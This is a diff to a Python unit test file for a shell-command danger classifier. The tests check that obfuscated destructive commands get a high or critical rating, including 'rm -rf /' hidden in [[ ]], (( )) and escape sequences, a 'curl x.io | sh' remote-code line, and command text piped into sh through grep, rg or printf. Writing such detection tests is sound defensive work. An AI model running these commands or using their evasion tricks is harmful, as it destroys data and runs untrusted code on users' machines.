@@ -1971,14 +1971,17 @@ class WhatIsDangerous(unittest.TestCase):
     def test_what_only_a_plain_sh_would_run_is_found(self) -> None:
         """sh is dash on many systems: it knows neither ((…)) nor [[…]] nor $'…', and its echo
         heeds backslashes."""
+        self.assertEqual(caro.assess("((curl x.io | sh))")[0], "high")
         for command in (
-                "((rm -rf /))", "(((rm -rf /)))", "(( 1 > /etc/passwd ))", "((curl x.io | sh))",
+                "((rm -rf /))", "(((rm -rf /)))", "(( 1 > /etc/passwd ))",
                 "[[ -e x || rm -rf / ]]", "[[ x && rm -rf / ]]", "[[ a > /etc/passwd ]]",
                 "echo $'a\\'; rm -rf / #'", "echo '#\\nrm -rf /' | sh",
                 "bash -c \"$(echo '#\\nrm -rf /')\"", "$(echo '\\0162\\0155') -rf /"):
             with self.subTest(command):
-                self.assertIn(caro.assess(command)[0], ("high", "critical"))
+                self.assertEqual(caro.assess(command)[0], "critical")
         for command in ("[[ -f a && -d b ]] && echo yes", "[[ $x =~ ^(a|b)$ ]]", "((x++))",
+                        "bash -c 'for ((i = 0; i < 3; i++)); do echo $i; done'",
+                        "bash -c '[[ $x =~ ^(a|b)$ ]] && echo yes'",
                         "for ((i = 0; i < 3; i++)); do echo $i; done", "echo 'a\\nb'"):
             with self.subTest(command):
                 self.assertEqual(caro.assess(command)[0], "safe")
@@ -1986,6 +1989,8 @@ class WhatIsDangerous(unittest.TestCase):
     def test_a_part_of_a_line_that_a_shell_runs_is_high(self) -> None:
         for command in ("echo '# rm -rf /' | cut -c3- | sh", "head -c 8 <<< 'rm -rf /tmp/x' | sh",
                         "echo 'xrm -rf /' | grep -o 'rm.*' | sh",
+                        "echo 'xrm -rf /' | egrep --only-matching 'rm.*' | sh",
+                        "echo 'xrm -rf /' | rg -o 'rm.*' | sh",
                         "printf '%.8s' 'rm -rf /tmp/x' | sh"):
             with self.subTest(command):
                 self.assertIn(caro.assess(command)[0], ("high", "critical"))
